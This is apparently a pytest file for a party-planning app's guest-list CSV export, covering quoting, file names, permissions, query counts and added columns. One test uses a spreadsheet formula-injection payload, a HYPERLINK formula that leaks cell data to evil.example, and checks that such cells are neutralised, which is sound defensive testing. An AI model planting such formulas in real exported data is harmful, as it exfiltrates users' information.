"""GET /events/{id}/guests.csv: the hosts' spreadsheet of the guest list (what a spreadsheet program reads)."""

from __future__ import annotations

import csv
import io
from urllib.parse import unquote

import pytest
from chalice import Response

from chalicelib.api.responses import to_response
from chalicelib.models.events import GUEST, EventsTable, OfflineGuest, event_pk, offline_sk
from chalicelib.store import first_visits, invitations
from chalicelib.store.events import new_invitation
from chalicelib.timeutil import utcnow
from tests.utils.api import body, get, post_event, post_json
from tests.utils.factories import make_event, make_person

BOM = "\ufeff"


def _rows(response) -> list[list[str]]:
    text = response.body.decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM) :], newline="")))


def _event(client, owner, *guests, **fields) -> int:
    created = post_event(client, owner, invite_phone_numbers=[guest.phone for guest in guests], **fields)
    assert created.status_code == 201, created.body
    return body(created)["id"]


def _reply(client, event_id, guest, accept=True, **fields):
    answer = post_json(client, f"/events/{event_id}/{'accept' if accept else 'reject'}", fields, guest.token)
    assert answer.status_code == 200, answer.body
    return answer


def test_the_host_gets_one_row_per_invitee_with_answer_party_line_and_message(client):
    alice = make_person("Alice")
    going, declined, waiting, silent = (make_person(name) for name in ("Bea Going", "Cal No", "Dee Wait", "Eve Mute"))
    event_id = _event(client, alice, going, declined, waiting, silent, total_spots=2, waitlist=True,
                      max_extra_guests=2)  # fmt: skip
    _reply(client, event_id, going, extra_guests=1, rsvp_message="Bringing pie, see you")
    _reply(client, event_id, declined, accept=False, rsvp_message='Sorry, "busy"')
    _reply(client, event_id, waiting, extra_guests=0)

    response = get(client, f"/events/{event_id}/guests.csv", alice.token)

    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.body.count(b"\r\n") == 5 and b"\n" not in response.body.replace(b"\r\n", b"")
    assert [row[:7] for row in _rows(response)] == [
        ["name", "phone", "answer", "extra guests", "waitlist position", "message", "checked in"],
        ["Bea Going", f"'{going.phone}", "going", "1", "", "Bringing pie, see you", ""],
        ["Cal No", f"'{declined.phone}", "declined", "0", "", 'Sorry, "busy"', ""],
        ["Dee Wait", f"'{waiting.phone}", "waiting", "0", "1", "", ""],
        ["Eve Mute", f"'{silent.phone}", "no reply", "0", "", "", ""],
    ]
    assert b'"Sorry, ""busy"""' in response.body  # RFC 4180: quoted, quotes doubled


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
        ("+1 (555) Party", "'+1 (555) Party"),
        ("-x Dash", "'-x Dash"),
        ("@y Handle", "'@y Handle"),
        ("דנה כהן", "דנה כהן"),
        ("Zoë 🎉 Party", "Zoë 🎉 Party"),
    ],
)
def test_no_cell_runs_as_a_formula_and_any_script_survives(client, name, cell):
    alice, guest = make_person("Alice"), make_person("Someone")
    from chalicelib.services.identity import users

    users.update_profile(guest.user, {"full_name": name, "email": "guest@ex.test"})
    event_id = _event(client, alice, guest)
    _reply(client, event_id, guest, rsvp_message="=1+2")

    rows = _rows(get(client, f"/events/{event_id}/guests.csv", alice.token))

    assert rows[1][0] == cell
    assert rows[1][5] == "'=1+2"


def test_the_file_is_named_after_the_title_with_an_ascii_fallback(client):
    alice = make_person("Alice")
    event_id = _event(client, alice, title='Dîner "chez" נועה 🎉')

    disposition = get(client, f"/events/{event_id}/guests.csv", alice.token).headers["Content-Disposition"]

    plain, full = disposition.split("; filename*=UTF-8''")
    assert plain == 'attachment; filename="Diner chez.csv"'
    assert unquote(full) == "Dîner chez נועה 🎉.csv"


def test_a_guest_is_refused_and_a_stranger_sees_no_event(client):
    alice, bob, stranger = make_person("Alice"), make_person("Bob"), make_person("Stranger")
    event_id = _event(client, alice, bob)
    assert get(client, f"/events/{event_id}/guests.csv", bob.token).status_code == 403
    assert get(client, f"/events/{event_id}/guests.csv", stranger.token).status_code == 404
    assert get(client, f"/events/{event_id}/guests.csv").status_code == 401


def test_it_goes_through_api_gateway_as_text_not_base64(app):
    """A binary type would have API Gateway base64 the body; text/csv is none of the app's."""
    from chalicelib.domain.guest_sheet import CONTENT_TYPE

    answer = to_response(Response(body="a,b\r\n", headers={"Content-Type": CONTENT_TYPE}), "GET")
    lambda_answer = answer.to_dict(app.api.binary_types)
    assert lambda_answer["body"] == "a,b\r\n" and not lambda_answer.get("isBase64Encoded")


def test_it_costs_one_query_and_one_batch_read_of_the_guests(client, aws):
    alice = make_person("Alice")
    guests = [make_person(f"Guest {n}") for n in range(30)]
    event_id = _event(client, alice, *guests)
    aws.reset()
    assert get(client, f"/events/{event_id}/guests.csv", alice.token).status_code == 200
    # the caller's token, person and own invitation are one BatchGetItem, the guests another: the same as for
    # 1 guest
    assert aws.of("dynamodb") == {"Query": 1, "BatchGetItem": 2}


def test_offline_guests_and_answers_to_questions_have_their_rows_and_columns(client):
    alice, bob = make_person("Alice"), make_person("Bob")
    questions = [{"text": "Dietary needs?", "kind": "text"}, {"text": "=Bringing", "kind": "text"}]
    event_id = _event(client, alice, bob, total_spots=10, max_extra_guests=2, questions=questions)
    _reply(client, event_id, bob, answers={"q1": "No nuts", "q2": "-salad"})
    added = post_json(client, f"/events/{event_id}/offline_guests", {"name": "Grandma Rose", "extra_guests": 1},
                      alice.token)  # fmt: skip
    assert added.status_code == 201, added.body

    rows = _rows(get(client, f"/events/{event_id}/guests.csv", alice.token))

    assert rows[0][6:9] == ["Dietary needs?", "'=Bringing", "checked in"]
    assert rows[1][0] == "Bob" and rows[1][6:9] == ["No nuts", "'-salad", ""]
    assert rows[2][:9] == ["Grandma Rose", "", "going", "1", "", "", "", "", ""]


def test_a_clone_asks_the_same_questions_without_the_answers(client):
    alice, bob = make_person("Alice"), make_person("Bob")
    event_id = _event(client, alice, bob, questions=[{"text": "Dietary needs?", "kind": "text"}])
    _reply(client, event_id, bob, answers={"q1": "No nuts"})
    clone = post_json(client, f"/events/{event_id}/clone", {"event_date": "2031-01-01T18:00:00Z",
                                                            "invite_same_guests": True}, alice.token)  # fmt: skip
    assert clone.status_code == 201, clone.body
    assert [question["text"] for question in body(clone)["questions"]] == ["Dietary needs?"]
    sheet = _rows(get(client, f"/events/{body(clone)['id']}/guests.csv", alice.token))
    assert sheet[1][2] == "no reply" and sheet[1][6] == ""


def test_a_full_event_has_every_invitee_and_every_offline_guest_in_the_sheet(client):
    """500 invitees (the cap) and 100 offline guests (theirs): 600 rows, none left out."""
    alice = make_person("Alice")
    event = make_event(alice)
    now = utcnow()
    with EventsTable.batch_write() as batch:
        for n in range(500):
            batch.save(new_invitation(event, 10_000 + n, GUEST, 20_000 + n, now))
        for n in range(100):
            batch.save(OfflineGuest(event_pk(event.id), offline_sk(30_000 + n), id=30_000 + n, name=f"Offline {n}",
                                    created=now))  # fmt: skip
    rows = _rows(get(client, f"/events/{event.id}/guests.csv", alice.token))
    assert len(rows) == 1 + 600
    assert sum(1 for row in rows[1:] if row[0].startswith("Offline ")) == 100
    assert rows[-1][:3] == ["Offline 99", "", "going"]


def test_the_last_column_says_when_each_party_was_checked_in(client):
    from chalicelib.services.the_day import check_ins

    alice, bob, cy = make_person("Alice"), make_person("Bob"), make_person("Cy")
    event_id = _event(client, alice, bob, cy, total_spots=10)
    _reply(client, event_id, bob)
    _reply(client, event_id, cy)
    added = post_json(client, f"/events/{event_id}/offline_guests", {"name": "Grandma Rose"}, alice.token)
    bob_in = check_ins.check_in(alice.user, event_id, code=None, user_id=bob.id, offline_guest_id=None)
    rose_in = check_ins.check_in(alice.user, event_id, code=None, user_id=None, offline_guest_id=body(added)["id"])

    rows = _rows(get(client, f"/events/{event_id}/guests.csv", alice.token))

    assert rows[0][6] == "checked in"
    arrived = {row[0]: row[6] for row in rows[1:]}
    assert arrived == {
        "Bob": bob_in.checked_in_at.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "Cy": "",
        "Grandma Rose": rose_in.checked_in_at.strftime("%Y-%m-%dT%H:%M:%SZ"),
    }


def test_a_maybe_reads_maybe_and_the_last_columns_say_how_each_was_invited_and_first_opened(client):
    alice, app_user, linked = make_person("Alice"), make_person("Ann App"), make_person("Lin Link")
    event_id = _event(client, alice, app_user, total_spots=5, join_mode="open")
    by_text_phone = "+14155550777"
    assert post_json(client, f"/events/{event_id}", {"invite_phone_numbers": [by_text_phone]}, alice.token,
                     method="PATCH").status_code == 200  # fmt: skip
    code = body(post_json(client, f"/events/{event_id}/join_link", {}, alice.token))["url"].rsplit("/j/", 1)[1]
    assert post_json(client, "/events/join", {"code": code}, linked.token).status_code == 200
    assert post_json(client, f"/events/{event_id}/maybe", {}, app_user.token).status_code == 200
    texted = next(inv for inv in invitations.invitations_of(event_id) if inv.user_id not in
                  (alice.id, app_user.id, linked.id))  # fmt: skip
    opened = utcnow().replace(microsecond=0)
    assert first_visits.note_first_visit(event_id, texted.user_id, opened)

    rows = _rows(get(client, f"/events/{event_id}/guests.csv", alice.token))

    assert rows[0] == ["name", "phone", "answer", "extra guests", "waitlist position", "message", "checked in",
                       "invited via", "first opened at"]  # fmt: skip
    by_phone = {row[1].lstrip("'"): row for row in rows[1:]}
    assert by_phone[app_user.phone][2:] == ["maybe", "0", "", "", "", "push", ""]
    assert by_phone[by_text_phone][2:] == ["no reply", "0", "", "", "", "text", opened.strftime("%Y-%m-%dT%H:%M:%SZ")]
    assert by_phone[linked.phone][2:] == ["no reply", "0", "", "", "", "link", ""]
    added = post_json(client, f"/events/{event_id}/offline_guests", {"name": "Grandma Rose"}, alice.token)
    assert added.status_code == 201
    offline = _rows(get(client, f"/events/{event_id}/guests.csv", alice.token))[-1]
    assert offline == ["Grandma Rose", "", "going", "0", "", "", "", "", ""]
